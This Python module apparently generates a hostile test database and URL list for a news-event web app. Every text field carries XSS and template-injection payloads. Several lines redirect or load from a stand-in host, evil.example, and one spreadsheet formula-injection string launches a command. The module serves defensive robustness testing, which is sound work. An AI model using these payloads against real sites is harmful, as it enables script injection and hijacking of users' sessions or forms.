"""Pages and events crafted to attack the desk: script everywhere, huge words, text from right to left, many reports."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from urllib.parse import quote

from bede.model import (
    Article,
    Context,
    Event,
    Link,
    Merge,
    Number,
    Part,
    Party,
    Place,
    Publication,
    Report,
    Span,
    Story,
    When,
    content_id,
)
from bede.store import open_store

MANY = 10_000
"""Reports of the largest event."""

SCRIPTS = (
    "<script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=2>",
    '"><svg/onload=window.hacked=3>',
    "'-window.hacked=4-'",
    "javascript:window.hacked=5",
    "</textarea></title></style><script>window.hacked=6</script>",
    "{{constructor.constructor('window.hacked=7')()}}",
    "${window.hacked=8}",
    "<a href=javascript:window.hacked=9>click</a>",
    "<iframe srcdoc='<script>parent.hacked=10</script>'>",
    "<details open ontoggle=window.hacked=11>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<form action=//evil.example/><button>send",
    "]]><!--<script>window.hacked=12</script>-->",
    '" hx-get="//evil.example" hx-trigger="load" x="',
    "' data-draw='map' data-source='//evil.example",
    "<link rel=stylesheet href=//evil.example/>",
    "%3Cscript%3Ewindow.hacked=13%3C/script%3E",
    "&lt;script&gt;window.hacked=14&lt;/script&gt;",
)
SHAPES = (
    "",
    "W" * 3000,
    "\u202eRIGHT TO LEFT\u202c \u05d0\u05d1\u05d2 \u0645\u0631\u062d\u0628\u0627",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b" * 60,
    "=1+1;@SUM(1)\t+cmd|' /C calc'!A0",
    "\U0001f4a3" * 300,
    "a\u2028b\u2029c\u00ad\u200b\ufeffd",
    "-" * 900,
    "word " * 700,
    "\x01\x02\x1b[31m\x7f",
)


def text(number: int, what: str) -> str:
    """What stands in a field of a page: one of the scripts, one of the shapes, and what field it is."""
    return f"{SCRIPTS[number % len(SCRIPTS)]} {what} {SHAPES[number % len(SHAPES)]}".strip()


def attack(path: Path, *, many: int = MANY) -> Path:
    """A database of a hundred pages and events in which every text field attacks; the first event has many reports."""
    coded = [_page(number) for number in range(100)]
    crowd = [_crowd(number) for number in range(many)]
    events = [_event(report, [report]) for _, report in coded]
    first = events[0]
    events[0] = replace(
        first,
        reports=(*first.reports, *(report.id for _, report in crowd)),
        merges=tuple(Merge(report=report.id, reason=text(3, "reason"), score=0.5) for _, report in crowd),
        pages=(*first.pages, *(article.page_id for article, _ in crowd)),
        outlets=tuple(text(number, f"outlet {number}") for number in range(200)),
        independent=many,
    )
    stories = [
        Story(
            id=content_id("story", number),
            title=text(number, "title"),
            actors=tuple(text(other, "actor") for other in range(12)),
            events=tuple(event.id for event in events[number::5]),
            links=tuple(Link(event=event.id, reason=text(7, "link")) for event in events[number::5]),
            earliest="2024-01-01",
            latest="2024-12-31",
        )
        for number in range(5)
    ]
    with open_store(path, create=True) as store:
        store.add(((article, [report]) for article, report in (*coded, *crowd)), coded_with=text(1, "coded"))
        store.replace_events(events, stories, {coded[3][0].page_id: coded[2][0].page_id})
    return path


def _crowd(number: int) -> tuple[Article, Report]:
    """One of the many pages that tell of the same."""
    article = replace(_article(0, name=f"crowd {number}"), page_id=content_id("crowd", number))
    return article, _report(article, 0, seed=number)


def _page(number: int) -> tuple[Article, Report]:
    """A page and its report, hostile in every field."""
    article = _article(number, name=text(number, "name"))
    return article, _report(article, number, seed=number)


def _article(number: int, *, name: str) -> Article:
    """A page whose every part attacks."""
    parts = ("headline", "byline", "caption", "body", "body", "menu", "teaser")
    lines = [text(number + at, part) for at, part in enumerate(parts)]
    whole, found, at = "\n".join(lines), [], 0
    for part, line in zip(parts, lines, strict=True):
        found.append(Part(part=part, start=at, end=at + len(line)))
        at += len(line) + 1
    spans = {part.part: Span(text=whole[part.start : part.end], start=part.start, end=part.end) for part in found}
    day = f"2024-{number % 12 + 1:02}-{number % 28 + 1:02}"
    return Article(
        page=name, page_id=content_id("page", number), text=whole, headline=spans["headline"], byline=spans["byline"],
        body=tuple(span for name, span in spans.items() if name == "body"), parts=tuple(found),
        published=Publication(
            earliest=day, latest=day, edtf=day, text=text(number, "date"), start=None, end=None, basis="given",
            confidence=1.0,
        ),
        publisher=text(number, "publisher"), language="en", url=f"javascript:window.hacked=20;{text(number, 'url')}",
        title=text(number, "title"),
    )  # fmt: skip


def _report(article: Article, number: int, *, seed: int) -> Report:
    """A report of a page's body, its values hostile too, its marks laid over one another."""
    body = next(part for part in article.parts if part.part == "body")
    sentence = Span(text=article.text[body.start : body.end], start=body.start, end=body.end)

    def at(start: int, length: int) -> Span:
        first = min(sentence.start + start, sentence.end - 1)
        last = min(first + length, sentence.end)
        return Span(text=article.text[first:last], start=first, end=last)

    def party(start: int, role: str) -> Party:
        span = at(start, 9)
        return Party(
            text=span.text, start=span.start, end=span.end, name=text(number, role), country=None,
            entity=text(number, "entity"), rule=text(number, "rule"), antecedent=at(start + 2, 4), kind="person",
            sectors=("GOV",),
        )  # fmt: skip

    place, day = at(6, 8), at(12, 8)
    return Report(
        id=content_id("report", article.page_id, seed), page=article.page, page_id=article.page_id, act="ACCUSE",
        event_type="ACCUSE", modes=("allege",), status="actual", quad=3, intensity=-3.5,
        contexts=(Context(text=place.text, start=place.start, end=place.end, context="military", rule=text(1, "r")),),
        actors=(party(0, "actor"), party(4, "other actor")), recipients=(party(2, "recipient"),), addressees=(),
        attribution=(party(1, "speaker"),), matter=at(3, 5),
        date=When(
            text=day.text, start=day.start, end=day.end, earliest="2024-05-01", latest="2024-05-09",
            edtf="2024-05-01/2024-05-09", basis="said", rule=text(2, "rule"), reason=text(2, "reason"),
        ),
        places=(
            Place(
                text=place.text, start=place.start, end=place.end, name=text(number, "place"), country="USA",
                admin1=text(number, "admin"), lat=40.0 + number / 10, lon=30.0, geonames_id=None, feature="PPL",
                precision=1, role="event", rule=text(3, "rule"),
            ),
        ),
        numbers=(
            Number(text=text(4, "number"), start=day.start, end=day.end, kind="dead", low=1.0, high=2.0, unit="<b>x"),
        ),
        trigger=at(3, 6), sentence=sentence, rule=text(number, "rule"), confidence=0.5,
    )  # fmt: skip


def _event(first: Report, reports: list[Report]) -> Event:
    """An event of reports."""
    day = "2024-05-05"
    return Event(
        id=content_id("event", first.id), act=first.act, event_type=first.event_type, modes=first.modes,
        status=first.status, statuses=((day, "future"), (day, first.status)), quad=first.quad,
        intensity=first.intensity, actors=first.actors, recipients=first.recipients, date=first.date,
        places=first.places, contexts=(text(5, "context"),), said_by=tuple(party.name for party in first.attribution),
        reports=tuple(report.id for report in reports), merges=(),
        pages=tuple(dict.fromkeys(report.page_id for report in reports)), outlets=(text(6, "outlet"),), independent=1,
        first_published=day, last_published=day, confidence=0.5,
    )  # fmt: skip


def addresses(path: Path) -> Iterator[str]:
    """An address of every kind of page, with parameters that attack as well."""
    with open_store(path) as store:
        events = list(store.events(limit=200))
        biggest = max(events, key=lambda event: len(event.reports))
        yield from ("/", "/events", f"/events/{biggest.id}", f"/events/{biggest.id}?from=9990", "/stories", "/map")
        columns = "when,event,type,actors,recipients,where,status,contexts,reports,outlets,independent,said,published"
        yield from (f"/events?columns={columns}", "/network?by=entity", "/actors?by=entity", "/review", "/review/log")
        yield from (f"/stories/{story.id}" for story in store.stories())
        for number, event in enumerate(events[:40]):
            yield f"/events/{event.id}"
            yield f"/pages/{event.pages[0]}?furniture=1&report={event.reports[0]}"
            if number % 8 == 0 and len(event.actors[0].entity or "") < 900:
                yield f"/actor?key={quote(event.actors[0].entity or '')}&with={quote(SCRIPTS[number % 20])}"
                yield f"/dyad?a={quote(event.actors[0].name)}&b={quote(SCRIPTS[1])}"
                yield f"/events?actor={quote(SCRIPTS[number % 20])}&text={quote(chr(34) + 'script' + chr(34))}"
